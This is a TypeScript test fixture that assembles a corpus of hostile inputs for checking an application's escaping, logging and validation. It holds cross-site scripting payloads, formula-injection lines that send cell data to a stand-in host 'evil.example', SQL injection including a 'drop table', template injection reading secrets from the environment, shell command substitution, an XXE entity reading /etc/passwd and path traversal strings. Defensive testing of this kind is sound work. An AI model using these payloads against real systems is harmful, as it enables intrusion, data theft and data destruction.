/** A text that has broken other programs. Every one holds `marker`, so that it can be found wherever it got to. */
export interface Hostile {
  name: string
  text: string
}

/** Rare enough to stand for "text of a person": it must never be in a log. */
export const marker = 'Kqzvaara'
/** What scripts of the corpus call in a browser, and where they and their pictures would go. */
export const canary = 'kqzcanary'
export const evil = 'https://evil.example'

const ran = `window.${canary}=1`
const many = (text: string, times: number) => text.repeat(times)

const markup: Record<string, string> = {
  script: `<script>${ran}</script>`,
  'script closed first': `</script><script>${ran}</script>`,
  'title closed first': `</title></textarea></style><script>${ran}</script>`,
  picture: `"><img src=x onerror="${ran}">`,
  'picture in single quotes': `'><img src=x onerror='${ran}'>`,
  'picture elsewhere': `<img src="${evil}/pixel.png">`,
  'event handler': `" autofocus onfocus="${ran}" x="`,
  svg: `<svg onload="${ran}"></svg>`,
  'svg with a script': `<svg><script href="data:text/javascript,${ran}"/></svg>`,
  'frame of its own': `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  object: `<object data="data:text/html,<script>${ran}</script>"></object>`,
  math: `<math><mtext><a xlink:href="javascript:${ran}">x</a></mtext></math>`,
  link: `<a href="javascript:${ran}">x</a>`,
  'script address': `javascript:${ran}//`,
  'data address': `data:text/html,<script>${ran}</script>`,
  style: `<style>@import '${evil}/s.css'; body{background:url(${evil}/b)}</style>`,
  'style sheet': `<link rel="stylesheet" href="${evil}/s.css">`,
  form: `<form action="${evil}"><button autofocus>OK</button></form>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${evil}">`,
  base: `<base href="${evil}/">`,
  comment: '<!-- --!> ]]> <![CDATA[',
  'character references': '&lt;script&gt; &#0; &#x1F600; &amp;amp;',
  'details that opens': `<details open ontoggle="${ran}">`,
}

const formulas: Record<string, string> = {
  'formula link': `=HYPERLINK("${evil}?x="&A1)`,
  'formula command': "+1+cmd|' /C calc'!A0",
  'formula minus': '-2+3+cmd',
  'formula at': '@SUM(1+1)*cmd',
  'formula behind a tab': '\t=1+1',
  'formula behind a return': '\r=1+1',
  'formula behind a line feed': '\n=1+1',
  'formula of full width': '＝1+1',
  'formula in quotes': '"=1+1"',
  'formula behind a separator': ';=1+1,=1+1',
}

const lines: Record<string, string> = {
  'header after CR LF': 'x\r\nSet-Cookie: kqz=1\r\n\r\n<b>',
  'header after LF': 'x\nBcc: victim@example.com',
  'header, encoded': 'x%0d%0aX-Kqz: 1',
  'line and paragraph separators': 'a\u2028b\u2029c\u0085d\u000bd\u000c',
  'terminal controls': '\u001b[31m\u001b]0;x\u0007\u009b2J',
  'all controls': Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join(''),
  delete: 'a\u007fb\u0080c\u009f',
}

const letters: Record<string, string> = {
  'right to left override': 'invoice\u202Egpj.exe\u202C',
  isolates: '\u2066a\u2067b\u2068c\u2069',
  'marks of direction': '\u200E\u200F\u061C',
  'zero width': 'a\u200Bb\u200Cc\u200Dd\u2060e',
  'byte order mark': '\uFEFFa\uFFFE\uFFFF',
  'soft hyphen': 'Vir\u00ADta\u00ADnen',
  'right to left': 'مرحبا بالعالم שלום',
  homoglyphs: 'Аdmіnіstrаtоr раураl',
  'full width': 'Ｖｉｒｔａｎｅｎ',
  'combining marks': `e${many('\u0301\u0323', 200)}`,
  'very many combining marks': `Z${many('\u0489', 5000)}`,
  composed: 'Åke \u00C5ke A\u030Ake Ö O\u0308',
  ligatures: 'ﬁ ﬃ ǅ ß ẞ ı İ ſ',
  family: many('👩‍👩‍👧‍👦', 20),
  flags: '🇫🇮🇸🇪🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'beyond the first plane': '𝕂𝕒𝕦𝕡𝕡𝕚𝕒𝕤 𠜎 \u{10FFFF}',
  'private use': '\uE000\u{F0000}',
  tags: `\u{E0041}\u{E0042}`,
  NUL: 'a\u0000b',
  'first half of a pair': 'a\uD800b',
  'second half of a pair': 'a\uDFFFb',
  'pair the wrong way round': '\uDC00\uD800',
}

const languages: Record<string, string> = {
  'SQL end': "'; drop table know.customer; --",
  'SQL truth': "' or '1'='1",
  'SQL truth in double quotes': '" or ""="',
  'SQL union': '1) union select password_hash from company.user --',
  'SQL comment': '/* */ -- #',
  'SQL dollar quotes': '$$ $1 $tag$ $tag$',
  'SQL pattern': '%_%\\%\\_\\',
  'SQL copy': '\\.\n\\N\t\\x00',
  'template in braces': "{{constructor.constructor('return process')()}}",
  'template of JavaScript': `\${process.env.DATABASE_URL}`,
  'template of Ruby and EJS': '<%= 7*7 %> #{7*7}',
  'template of Jinja': '{% for x in y %}{{7*7}}{% endfor %}',
  'our own place-holders': '{name} {count} {instance} {retryAfter}',
  shell: '$(touch kqz) `id` ; | & > kqz',
  prototype: '__proto__',
  constructor: 'constructor.prototype.kqz',
  JSON: '{"$ne":null,"a":[1',
  'XML entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  LDAP: '*)(uid=*))(|(uid=*',
  'no number': 'NaN Infinity -0 1e999 0x10',
}

const paths: Record<string, string> = {
  'way up': '../../../../../../etc/passwd',
  'way up in Windows': '..\\..\\..\\windows\\win.ini',
  'way up, encoded': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  absolute: '/etc/passwd',
  'file address': 'file:///etc/passwd',
  device: 'CON.txt:stream',
  hidden: '.htaccess',
}

const slow: Record<string, string> = {
  'long word': many('a', 40_000),
  'long e-mail': `a@${many('a.', 10_000)}`,
  'many ats': many('@', 20_000),
  'long number': many('0 ', 20_000),
  'long dots': many('1.', 20_000),
  'long blanks': `a${many(' ', 40_000)}b`,
  'long quotes': many('"', 20_001),
  'long hyphens': many('-', 20_000),
}

const named = (group: Record<string, string>, front = false): Hostile[] =>
  Object.entries(group).map(([name, text]) => ({ name, text: front ? `${marker}${text}` : `${text}${marker}` }))

/** Texts of at most some hundred characters, and some of thousands. The marker stands last where the first character matters. */
export const corpus: readonly Hostile[] = [markup, formulas, lines, letters, languages, paths, slow].flatMap((group) =>
  named(group),
)

/** Texts that no database and no page can hold; refused wherever they come through the interface. */
export const unholdable = (text: string): boolean => text.includes('\u0000') || !text.isWellFormed()

/** Cursors that were made up: of the right shape, with wrong insides. */
export const cursors: readonly string[] = [
  '',
  'x',
  '"',
  [],
  [null, null],
  ['', ''],
  ['a', '-'.repeat(36)],
  ['a', 'f'.repeat(36)],
  ['a', '00000000-0000-0000-0000-00000000000g'],
  ["a'; select 1 --", '01939393-0000-7000-8000-00000000f00d'],
  ['\u0000', '01939393-0000-7000-8000-00000000f00d'],
  ['\uD800', '01939393-0000-7000-8000-00000000f00d'],
  ['9999999-01-01', '01939393-0000-7000-8000-00000000f00d'],
  ['+275760-09-13T00:00:00.000Z', '01939393-0000-7000-8000-00000000f00d'],
  ['infinity', 'infinity'],
  [1e300, -1],
  [[[]], {}],
  { at: 'x', id: 'y', fileNo: 1e99, line: -1 },
  [99999999999, 99999999999],
].flatMap((value) => {
  const text = typeof value === 'string' ? value : JSON.stringify(value)
  return [text, Buffer.from(text).toString('base64url'), Buffer.from(text).toString('base64')]
})
